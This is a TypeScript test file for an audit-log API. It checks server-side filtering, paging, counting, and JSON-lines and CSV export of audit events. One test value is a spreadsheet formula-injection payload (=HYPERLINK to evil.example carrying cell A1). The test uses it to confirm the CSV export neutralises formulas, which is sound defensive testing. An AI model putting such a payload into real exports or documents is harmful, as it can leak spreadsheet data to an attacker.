/**
 * Issue 17 item 2 (API half): the audit explorer's filters, paging and count run on the server, over 1,500
 * events (the browser test has 5,000), and the export streams exactly the filtered events (JSON lines, CSV), is audited as an export and
 * stops at the head it began with. CSV defuses formula-looking text (CSV injection) and quotes what it must.
 */
import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Actor } from "../authz/authz.types.js";
import type { AuditEvent, AuditInput } from "./audit.types.js";
import { CSV_HEADER, csvField } from "./audit.csv.js";
import * as auditStore from "./audit.store.js";
import { testServer, type TestServer } from "../../testing/server.js";

let t: TestServer;

const person = (name: string): Actor => ({
  kind: "principal",
  id: randomUUID(),
  name,
  principalKind: "user",
  roles: ["user"],
});

interface Page {
  items: AuditEvent[];
  nextBeforeSeq?: number | null;
  nextAfterSeq: number | null;
  total?: number;
  totalCapped?: boolean;
}

async function get(url: string) {
  const res = await t.app.inject({ method: "GET", url, headers: { authorization: t.adminAuth } });
  expect(res.statusCode, res.body).toBe(200);
  return res;
}
const events = async (query: string) => (await get(`/v1/audit/events?${query}`)).json<Page>();

const CAROL_EVENTS = 13;
const TOTAL = 1500;
const HOSTILE_REASON = '=HYPERLINK("http://evil.example/?"&A1,"click")';

beforeAll(async () => {
  t = await testServer("pglite");
  // TOTAL events, carol's oldest: written through the audit service in two transactions, not 5,000 calls.
  const carol = person("carol");
  const context = { correlationId: "explorer-test", sourceIp: "192.0.2.7", userAgent: 'curl/8, "quoted"' };
  const carolEvents: AuditInput[] = Array.from({ length: CAROL_EVENTS }, (_, i) => ({
    action: i % 2 === 0 ? "request.approved" : "request.denied",
    outcome: i % 2 === 0 ? "success" : "denied",
    subject: `request:${i}`,
    reason: i === 0 ? HOSTILE_REASON : `decision ${i}`,
    details: { role: "db-admin", n: i },
  }));
  await t.store.transaction((tx) => t.audit.append(tx, carol, context, carolEvents));
  const others = ["dave", "erin", "frank"].map(person);
  const filler = Array.from({ length: TOTAL - CAROL_EVENTS }, (_, i) => i);
  await t.store.transaction(async (tx) => {
    for (const who of others)
      await t.audit.append(
        tx,
        who,
        context,
        filler
          .filter((i) => i % others.length === others.indexOf(who))
          .map((i) => ({
            action: "secret.read",
            outcome: i % 7 === 0 ? ("failed" as const) : ("success" as const),
            subject: `secret:app/${i % 50}`,
            reason: null,
            details: { n: i },
          })),
      );
  });
});
afterAll(async () => t?.cleanup());

describe("audit explorer: server-side filters, paging, count and export", () => {
  it("finds every event of an actor whose events are all older than the newest 1,000, with their count", async () => {
    const newest = await events("order=desc&limit=1000");
    expect(newest.items.some((e) => e.actor === "carol")).toBe(false);
    const found = await events("actor=carol&order=desc&limit=50&count=true");
    expect(found.items).toHaveLength(CAROL_EVENTS);
    expect(found.total).toBe(CAROL_EVENTS);
    expect(found.totalCapped).toBe(false);
    expect(found.items.every((e) => e.actor === "carol")).toBe(true);
    expect(found.nextBeforeSeq).toBeNull();
  });

  it("pages newest first with a count that covers every page", async () => {
    const first = await events("actor=dave&order=desc&limit=100&count=true");
    expect(first.items).toHaveLength(100);
    const all = (await t.audit.read({ actor: "dave", limit: 10_000 })).length;
    expect(first.total).toBe(all);
    let seen = first.items.length;
    let cursor = first.nextBeforeSeq;
    while (cursor) {
      const next = await events(`actor=dave&beforeSeq=${cursor}&limit=100`);
      expect(next.total).toBeUndefined();
      expect(next.items.every((e) => e.seq < cursor!)).toBe(true);
      seen += next.items.length;
      cursor = next.nextBeforeSeq;
    }
    expect(seen).toBe(all);
  });

  it("filters by target (exact and prefix), outcome, action and time, each answer only what matches", async () => {
    const exact = await events("target=secret:app/7&order=desc&limit=1000&count=true");
    expect(exact.total).toBeGreaterThan(0);
    expect(exact.items.every((e) => e.subject === "secret:app/7")).toBe(true);
    const prefix = await events("target=secret:app/1*&limit=1000&count=true");
    expect(prefix.items.every((e) => e.subject!.startsWith("secret:app/1"))).toBe(true);
    expect(prefix.total).toBeGreaterThan(exact.total!);
    // "_" and "%" are no wildcards in a target either.
    expect((await events("target=secret_app*&count=true")).total).toBe(0);
    const denied = await events("outcome=denied&actor=carol&count=true");
    expect(denied.total).toBe(Math.floor(CAROL_EVENTS / 2));
    expect(denied.items.every((e) => e.outcome === "denied" && e.action === "request.denied")).toBe(true);
    const failed = await events("outcome=failed&action=secret.*&count=true&limit=5");
    expect(failed.items.every((e) => e.outcome === "failed")).toBe(true);
    expect(failed.total).toBe(
      Array.from({ length: TOTAL - CAROL_EVENTS }, (_, i) => i).filter((i) => i % 7 === 0).length,
    );
    const future = new Date(Date.now() + 3_600_000).toISOString();
    expect((await events(`since=${encodeURIComponent(future)}&count=true`)).total).toBe(0);
  });

  it("counts no further than the cap", async () => {
    expect(await auditStore.countEvents(t.store.db, {}, 10)).toBe(10);
    expect(await auditStore.countEvents(t.store.db, { actor: "carol" }, 10)).toBe(10);
    expect(await auditStore.countEvents(t.store.db, { actor: "carol" }, 100)).toBe(CAROL_EVENTS);
  });

  it("exports exactly the filtered events as JSON lines and as CSV, and audits the export", async () => {
    const listed = (await events("actor=carol&limit=1000")).items;
    const jsonl = await get("/v1/audit/export?format=jsonl&actor=carol");
    expect(jsonl.headers["content-type"]).toMatch(/^application\/x-ndjson/);
    expect(jsonl.headers["content-disposition"]).toMatch(/^attachment; filename="stint-audit-[\d-]+\.jsonl"$/);
    const lines = jsonl.body.trim().split("\n");
    // A filtered export carries no signed heads (they cover the whole chain), only the events.
    expect(lines.map((line) => (JSON.parse(line) as { seq: number }).seq)).toEqual(listed.map((e) => e.seq));

    const csv = await get("/v1/audit/export?format=csv&actor=carol&outcome=success");
    expect(csv.headers["content-type"]).toMatch(/^text\/csv/);
    const rows = csv.body.trimEnd().split("\n");
    expect(rows[0]).toBe(CSV_HEADER);
    const successes = listed.filter((e) => e.outcome === "success");
    expect(rows.slice(1).map((row) => Number(row.split(",")[0]))).toEqual(successes.map((e) => e.seq));

    const audited = (await events("action=audit.export&actor=admin&order=desc&limit=10")).items;
    expect(audited[0]!.details).toMatchObject({ format: "csv", filters: { actor: "carol", outcome: "success" } });
    expect(audited[1]!.details).toMatchObject({ format: "jsonl", filters: { actor: "carol" } });
    // The export stops at the head it began with: its own record is not in it.
    const whole = await get("/v1/audit/export?format=jsonl&action=audit.export");
    const exportedSeqs = whole.body
      .trim()
      .split("\n")
      .map((line) => (JSON.parse(line) as { seq: number }).seq);
    const exportsNow = (await events("action=audit.export&limit=100")).items.map((e) => e.seq);
    expect(exportedSeqs).toEqual(exportsNow.slice(0, -1));
  });

  it("CSV defuses formulas and quotes commas, quotes and line breaks (attack: a hostile reason and user agent)", async () => {
    const csv = await get("/v1/audit/export?format=csv&actor=carol&action=request.approved");
    const body = csv.body;
    // The hostile reason starts with an apostrophe, inside quotes (it holds quotes and a comma).
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(body).not.toMatch(/(^|,)=HYPERLINK/m);
    expect(body).toContain('"curl/8, ""quoted"""');
    expect(csvField("+1")).toBe("'+1");
    expect(csvField("-2")).toBe("'-2");
    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvField("\tx")).toBe("'\tx");
    expect(csvField("a\nb")).toBe('"a\nb"');
    expect(csvField(42)).toBe("42");
    expect(csvField(null)).toBe("");
    expect(csvField("plain")).toBe("plain");
  });

  it("refuses filters that are not filters", async () => {
    for (const url of [
      "/v1/audit/events?outcome=maybe",
      "/v1/audit/events?count=yes",
      "/v1/audit/events?target=",
      "/v1/audit/export?format=xlsx",
      "/v1/audit/export?outcome=nope",
      "/v1/audit/export?actor=carol&extra=1",
    ]) {
      const res = await t.app.inject({ method: "GET", url, headers: { authorization: t.adminAuth } });
      expect(res.statusCode, url).toBe(400);
      expect(res.json<{ error: { code: string } }>().error.code).toBe("VALIDATION_FAILED");
    }
  });
});
